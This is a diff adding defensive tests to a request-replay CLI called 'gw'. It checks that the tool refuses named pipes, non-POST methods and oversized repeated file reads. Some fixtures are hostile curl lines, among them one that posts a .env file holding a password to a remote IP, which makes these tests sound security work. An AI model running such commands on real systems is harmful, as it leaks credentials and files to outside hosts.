@@ -35,15 +35,50 @@ describe('gw in a folder that someone else wrote', () => {
       'pipe.pem',
       ['sign', '--client-id', 'A', '--target', '/x', '--body', 'gw.config.json'],
     ],
+    ['a file of a capture', 'body.json', ['explain', 'capture.txt']],
     ['.env', '.env', ['keys', 'env', 'merchant-private.pem', '--out', '.env']],
   ])('does not wait for a named pipe in place of %s', async (_what, pipe, args) => {
     const cwd = createKeyFolder()
     mkdirSync(join(cwd, '.gw-sandbox'))
     execFileSync('mkfifo', [join(cwd, pipe)])
     writeConfig(cwd, { privateKey: 'pipe.pem' })
+    writeFileSync(join(cwd, 'capture.txt'), 'curl -d @body.json http://127.0.0.1:1/notify')
     const { code, stderr } = await gw(args, { cwd })
     expect(code).toBe(2)
     expect(stderr).toContain('not a regular file')
+  })
+
+  it('does not send a file to another machine if a capture chose both', async () => {
+    const cwd = createFolder()
+    writeFileSync(join(cwd, '.env'), 'PASSWORD=secret')
+    writeFileSync(join(cwd, 'capture.txt'), 'curl -d @.env http://192.0.2.1/notify')
+    const connect = vi.spyOn(Socket.prototype, 'connect')
+    onTestFinished(() => connect.mockRestore())
+    const { code, stderr } = await gw(['replay', 'capture.txt', '--allow-remote'], { cwd })
+    expect(code).toBe(2)
+    expect(stderr).toContain('Pass --to')
+    expect(connect).not.toHaveBeenCalled()
+  })
+
+  it.each(['DELETE', 'PUT', 'GET'])('does not replay a %s request', async (method) => {
+    const cwd = createFolder()
+    const { origin, bodies } = await startReceiver()
+    writeFileSync(join(cwd, 'capture.txt'), `curl -X ${method} -d '{}' ${origin}/_all`)
+    const { code, stderr } = await gw(['replay', 'capture.txt'], { cwd })
+    expect(code).toBe(2)
+    expect(stderr).toContain(`its method is ${method} instead of POST`)
+    expect(bodies).toEqual([])
+  })
+
+  it('does not read a file thousands of times because a capture says so', async () => {
+    const cwd = createFolder()
+    writeFileSync(join(cwd, 'body.json'), 'Z'.repeat(1_000_000))
+    const command = `curl http://127.0.0.1:1/notify ${'-d @body.json '.repeat(5_000)}`
+    writeFileSync(join(cwd, 'capture.txt'), command)
+    const { code, stderr } = await gw(['explain', 'capture.txt'], { cwd })
+    expect(code).toBe(2)
+    expect(stderr).toContain('more than 16777216 bytes together')
+    expect(stderr.match(/gw: read/g)).toHaveLength(1)
   })
 
   it('does not replace a private key because gw.config.json says so', async () => {
